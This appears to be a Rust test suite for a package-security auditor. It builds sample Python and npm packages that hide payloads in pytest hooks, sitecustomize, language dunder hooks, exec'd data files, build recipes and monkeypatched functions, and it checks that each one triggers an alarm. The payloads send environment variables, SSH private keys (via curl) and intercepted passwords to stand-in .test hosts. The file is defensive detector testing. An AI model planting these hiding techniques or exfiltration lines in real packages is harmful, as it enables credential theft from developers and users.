//! When and where code hides that acts unasked: what tests are set up with, what the language calls by itself, functions that
//! take others' places, data files and a file's own text, recipes of builds, names of common commands. Each trigger with one
//! inert payload, and its harmless twin. Hosts end in `.test`, addresses are from 203.0.113.0/24.

mod shared;

use doorward_model::Level;

const SENDS: &str = "import os, json, urllib.request
urllib.request.urlopen(urllib.request.Request(\"https://collect.example.test/e\", data=json.dumps(dict(os.environ)).encode()))
";

const WHEEL: &str = "-- lantern-1.0.dist-info/METADATA --\nMetadata-Version: 2.1\nName: lantern\nVersion: 1.0\n";

const SOURCE: &str = "-- PKG-INFO --\nMetadata-Version: 2.1\nName: lantern\nVersion: 1.0\n";

const BUILDS: &str = "-- setup.py --
import os
from setuptools import setup
from setuptools.command.build_ext import build_ext
class Native(build_ext):
    def run(self):
        os.system(\"COMMAND\")
setup(name=\"lantern\", version=\"1.0\", cmdclass={\"build_ext\": Native})
";

/// The rules of all alarms of a package.
fn alarms(package: &str) -> Vec<String> {
    let report = shared::audit(package);
    let found = report.judgement.findings.iter().filter(|finding| finding.level == Level::Alarm);
    found.map(|finding| finding.rule.to_string()).collect()
}

/// An alarm of this rule, or none at all where it is empty.
fn check(title: &str, package: &str, rule: &str) {
    let found = alarms(package);
    let holds = if rule.is_empty() { found.is_empty() } else { found.iter().any(|one| one == rule) };
    assert!(holds, "{title}: {found:?}, not {rule}");
}

/// The payload as the body of a function.
fn function(head: &str) -> String {
    let body: String = SENDS.lines().flat_map(|line| ["    ", line, "\n"]).collect();
    format!("def {head}:\n{body}")
}

#[test]
fn python_that_somebody_elses_tool_starts() {
    let early = "flow/environment-sent-early";
    let body = function("go()").replace("def go():\n", "");
    let plugin = "-- lantern-1.0.dist-info/entry_points.txt --\n[pytest11]\nlantern = lantern.plugin\n-- lantern/plugin.py --\n";
    let hatch = "-- pyproject.toml --\n[project]\nname = \"lantern\"\nversion = \"1.0\"\n[tool.hatch.build.hooks.custom]\n\
                 -- hatch_build.py --\nclass Hook:\n    def initialize(self, version, data):\n        pass\n";
    for (title, package, rule) in [
        ("a conftest", format!("{SOURCE}-- conftest.py --\n{SENDS}"), early),
        ("a hook of pytest", format!("{SOURCE}-- tests/conftest.py --\n{}", function("pytest_configure(config)")), early),
        ("a plug-in of pytest", format!("{WHEEL}{plugin}{}", function("pytest_sessionstart(session)")), early),
        ("a plug-in that prints", format!("{WHEEL}{plugin}def pytest_sessionstart(session):\n    print(1)\n"), ""),
        ("sitecustomize", format!("{WHEEL}-- sitecustomize.py --\n{SENDS}"), early),
        ("a build hook", hatch.replace("        pass\n", &body.replace("    ", "        ")), early),
    ] {
        check(title, &package, rule);
    }
}

#[test]
fn python_that_the_language_calls_by_itself() {
    let package = |code: String| format!("{WHEEL}-- lantern/__init__.py --\n{code}");
    let go = function("_go()");
    let early = "flow/environment-sent-early";
    for (title, code, rule) in [
        ("a name that is not there", function("__getattr__(name)"), early),
        ("a look at the names", function("__dir__()"), early),
        ("a finder of imports", format!("import sys\n{}sys.path_hooks.insert(0, hook)\n", function("hook(path)")), early),
        ("an object that is dropped", format!("{go}class K:\n    def __del__(self):\n        _go()\nk = K()\n"), early),
        (
            "a class that follows",
            format!("{go}class A:\n    def __init_subclass__(c):\n        _go()\nclass B(A): pass\n"),
            early,
        ),
        ("a replaced import", format!("import builtins\n{}builtins.__import__ = watch\n", function("watch(n, *a)")), early),
        ("a function that nobody calls", go.clone(), ""),
        ("a class of which nothing is made", format!("{go}class K:\n    def __del__(self):\n        _go()\n"), ""),
    ] {
        check(title, &package(code), rule);
    }
}

#[test]
fn code_in_data_and_in_its_own_text() {
    let package = |code: &str, notes: &str| format!("{WHEEL}-- lantern/__init__.py --\n{code}\n-- lantern/notes.txt --\n{notes}");
    let rule = "install/evaluates-data-file";
    for (title, code, rule) in [
        ("a data file", "import os\nexec(open(os.path.join(os.path.dirname(__file__), \"notes.txt\")).read())", rule),
        ("comments of the file itself", "exec(open(__file__).read().split(\"# -\")[1])\n# -\n# pass", rule),
        ("a docstring", &format!("\"\"\"{}\"\"\"\nexec(__doc__)", SENDS.replace('"', "'")), "flow/environment-sent-early"),
        ("a docstring that is printed", "\"\"\"Light.\"\"\"\nprint(__doc__)", ""),
        ("a data file that is read", "print(open(\"notes.txt\").read())", ""),
    ] {
        check(title, &package(code, "light = 1\n"), rule);
    }
}

#[test]
fn builds_run_their_recipes() {
    let builds = |command: &str, file: &str| format!("{SOURCE}{}{file}", BUILDS.replace("COMMAND", command));
    let keys = "cat ~/.ssh/id_rsa | curl -s --data-binary @- https://keys.example.test/k";
    let meson = "-- pyproject.toml --\n[build-system]\nrequires = [\"meson-python\"]\nbuild-backend = \"mesonpy\"\n[project]\n\
                 name = \"lantern\"\nversion = \"1.0\"\n-- meson.build --\nproject('x')\nrun_command('sh', '-c', 'COMMAND')\n";
    for (title, package) in [
        ("make", builds("make", &format!("-- Makefile --\nall:\n\t@{keys}\n"))),
        ("make in a folder", builds("make -C src", &format!("-- src/Makefile --\nX := $(shell {keys})\nall:\n\techo\n"))),
        ("cmake", builds("cmake .", &format!("-- CMakeLists.txt --\nexecute_process(COMMAND sh -c \"{keys}\")\n"))),
        ("configure", builds("./configure", &format!("-- configure --\n#!/bin/sh\n{keys}\n"))),
        ("a backend of Meson", meson.replace("COMMAND", keys)),
    ] {
        let found = alarms(&package);
        assert!(!found.is_empty(), "{title}");
    }
    check("a recipe that compiles", &builds("make", "-- Makefile --\nall:\n\t$(CC) -o x x.c\n\tmkdir -p out\n"), "");
    check("a recipe that nobody starts", &format!("{WHEEL}-- Makefile --\nall:\n\techo\n"), "");
}

#[test]
fn functions_in_the_place_of_others() {
    let sends = "theft/hook-sends-what-passes";
    let python = |code: &str| format!("{WHEEL}-- lantern/__init__.py --\nimport requests, builtins, getpass\n{code}");
    let wraps =
        "_real = getpass.getpass\ndef ask(*words):\n    value = _real(*words)\n    DO\n    return value\ngetpass.getpass = ask\n";
    let posts = "requests.post(\"https://mirror.example.test/p\", data={\"v\": value})";
    check("passwords", &python(&wraps.replace("DO", posts)), sends);
    check("passwords are counted", &python(&wraps.replace("DO", "print(len(value))")), "");
    let wrap = "def wrap(real):\n    def inner(method, url, **more):\n        real('post', 'https://mirror.example.test/p', \
                json={'u': url})\n    return inner\nsetattr(requests.api, 'request', wrap(requests.api.request))\n";
    check("requests, by setattr", &python(wrap), sends);
    let npm =
        |code: &str| format!("-- package.json --\n{{ \"name\": \"lantern\", \"version\": \"1.0.0\" }}\n-- index.js --\n{code}");
    let load = "const Module = require('module');\nconst real = Module._load;\nModule._load = function (name) {\n  DO\n  \
                return real(name);\n};\n";
    let posts = "fetch('https://collect.example.test/e', { method: 'POST', body: JSON.stringify(process.env) });";
    check("modules that are loaded", &npm(&load.replace("DO", posts)), "flow/environment-sent-early");
    check("modules that are told", &npm(&load.replace("DO", "console.log(name);")), "");
}
